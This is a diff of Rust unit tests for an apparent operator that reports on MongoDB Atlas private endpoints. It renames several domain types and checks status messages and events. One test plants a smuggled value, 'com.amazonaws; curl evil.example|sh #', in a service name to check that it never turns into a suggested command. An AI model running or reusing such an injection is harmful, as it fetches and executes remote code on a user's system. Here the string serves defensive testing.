@@ -1,10 +1,10 @@
 //! What people are told: that it is true, said once, and of use to whom it is said.
 
 use domain::conditions::{ConditionType, EventReason, Reason};
-use domain::decision::{Absence, Farewell, Step};
+use domain::decision::{ConfirmedAbsence, ReleaseReason, Step};
+use domain::event::{Announced, failure, of_change, of_step};
 use domain::fault::FaultKind;
-use domain::notice::{Told, failure, of_change, of_step};
-use domain::observed::{Atlas, Observed, ReadyWhen, Reported, Sunset, Tried, VpcEndpoint};
+use domain::observed::{Listing, Observed, ReadyWhen, Reported, Sunset, VpcEndpoint, WriteOutcome};
 use domain::ownership::ClaimReading;
 
 use crate::support::{fault, id, observed, secs, shown, vpce};
@@ -14,11 +14,11 @@ use crate::words::{published, reported, told};
 fn what_atlas_did_not_show_is_no_milestone() {
     // Somebody wrote into the status that the endpoint is available, and Atlas cannot be asked.
     let mut forged = shown("AVAILABLE");
-    forged.atlas = Atlas::Failed(fault(FaultKind::Unavailable));
+    forged.listing = Listing::Failed(fault(FaultKind::Unavailable));
     assert_eq!(told(&Reported::default(), &forged), [(EventReason::AtlasUnavailable, true)]);
     // What it was before is no news either: this process has told it.
     let available = shown("AVAILABLE");
-    let before = Told::by(&reported(&available));
+    let before = Announced::by(&reported(&available));
     assert_eq!(of_change(before, &available, &Step::Rest, &reported(&available)), []);
 }
 
@@ -30,12 +30,12 @@ fn a_vpc_endpoint_that_two_objects_declare_is_told_once_beside_the_connection() 
     let connected = shared.get(ConditionType::EndpointConnected).unwrap();
     assert!(connected.message.contains("ServerlessPrivateEndpoint payroll"), "{}", connected.message);
     assert_eq!(shared.conditions[0], reported(&o).conditions[0], "Ready stays as it is");
-    let tells = |before: Told| -> Vec<_> {
+    let tells = |before: Announced| -> Vec<_> {
         of_change(before, &o, &Step::Rest, &shared).iter().map(|notice| notice.reason).collect()
     };
-    assert_eq!(tells(Told::by(&reported(&o))), [EventReason::VpcEndpointShared]);
-    assert_eq!(tells(Told::by(&shared)), []);
-    assert_eq!(tells(Told::by_status(&published(&shared))), []);
+    assert_eq!(tells(Announced::by(&reported(&o))), [EventReason::VpcEndpointShared]);
+    assert_eq!(tells(Announced::by(&shared)), []);
+    assert_eq!(tells(Announced::by_status(&published(&shared))), []);
 }
 
 #[test]
@@ -46,14 +46,14 @@ fn a_failure_is_named_once_for_the_log_and_what_is_well_is_none() {
     waiting.spec.as_mut().unwrap().ready_when = Some(ReadyWhen::Available);
     assert_eq!(failed(&waiting), None);
     let mut refused = shown("AVAILABLE");
-    refused.atlas = Atlas::Failed(fault(FaultKind::Unauthorized));
+    refused.listing = Listing::Failed(fault(FaultKind::Unauthorized));
     let said = "Atlas says Unauthorized (docs/troubleshooting.md#unauthorized)".to_owned();
     assert_eq!(failed(&refused), Some((Reason::Unauthorized, said)));
 }
 
 #[test]
 fn a_bill_is_spoken_of_only_where_a_vpc_endpoint_was_declared_or_connected() {
-    let released = |o: &Observed| of_step(&Step::Release(Farewell::Deleted), o).unwrap().message;
+    let released = |o: &Observed| of_step(&Step::Release(ReleaseReason::Deleted), o).unwrap().message;
     let removing = |mut o: Observed| {
         o.object.deleting = true;
         reported(&o).conditions[0].message.to_string()
@@ -76,14 +76,14 @@ fn whoever_only_observes_gets_no_advice_to_change_anything() {
         o
     };
     let mut never = observing(Observed {
-        atlas: Atlas::Listed(Vec::new()),
+        listing: Listing::Fetched(Vec::new()),
         object: observed().object,
         ..shown("RESERVED")
     });
     never.object.claim = ClaimReading::Absent;
     let mut lost = observing(shown("RESERVED"));
-    lost.atlas = Atlas::Listed(Vec::new());
-    lost.memory.absent = Some((Absence::Everything, secs(10)));
+    lost.listing = Listing::Fetched(Vec::new());
+    lost.memory.absent = Some((ConfirmedAbsence::Everything, secs(10)));
     for (o, reason) in [
         (observing(shown("RESERVED")), Reason::AwaitingVpcEndpoint),
         (observing(shown("FAILED")), Reason::AtlasFailed),
@@ -102,7 +102,7 @@ fn whoever_only_observes_gets_no_advice_to_change_anything() {
 fn what_is_refused_while_something_is_connected_names_what_restores_ready() {
     let mut o = shown("AVAILABLE");
     o.spec.as_mut().unwrap().vpc_endpoint = VpcEndpoint::Declared(vpce(2));
-    o.memory.tried = Tried::Refused(fault(FaultKind::Refused));
+    o.memory.last_write = WriteOutcome::Refused(fault(FaultKind::Refused));
     let ready = reported(&o).conditions[0].clone();
     assert_eq!(ready.reason, Reason::AtlasRefused);
     assert!(ready.message.contains(&format!("{} is still connected", vpce(1))), "{}", ready.message);
@@ -123,7 +123,7 @@ fn a_day_that_is_past_is_not_ahead() {
 #[test]
 fn a_service_name_that_aws_could_not_have_made_stands_in_no_command() {
     let mut o = shown("RESERVED");
-    let Atlas::Listed(listing) = &mut o.atlas else { return };
+    let Listing::Fetched(listing) = &mut o.listing else { return };
     listing[0].service_name = Some("com.amazonaws; curl evil.example|sh #".to_owned());
     o.spec.as_mut().unwrap().ready_when = Some(ReadyWhen::Available);
     let said = reported(&o).conditions[0].message.to_string();
@@ -133,10 +133,10 @@ fn a_service_name_that_aws_could_not_have_made_stands_in_no_command() {
 #[test]
 fn a_missing_endpoint_says_when_it_is_known_to_be_gone() {
     let mut o = shown("AVAILABLE");
-    o.atlas = Atlas::Listed(Vec::new());
+    o.listing = Listing::Fetched(Vec::new());
     for (recorded, absent, expected) in [(0, None, 130), (120, None, 10), (3600, Some(4), 6)] {
         o.memory.recorded = secs(recorded);
-        o.memory.absent = absent.map(|since| (Absence::Everything, secs(since)));
+        o.memory.absent = absent.map(|since| (ConfirmedAbsence::Everything, secs(since)));
         let report = reported(&o);
         assert_eq!(report.after, Some(secs(expected)), "{recorded} {absent:?}");
         assert!(report.is_dated(ConditionType::Ready));
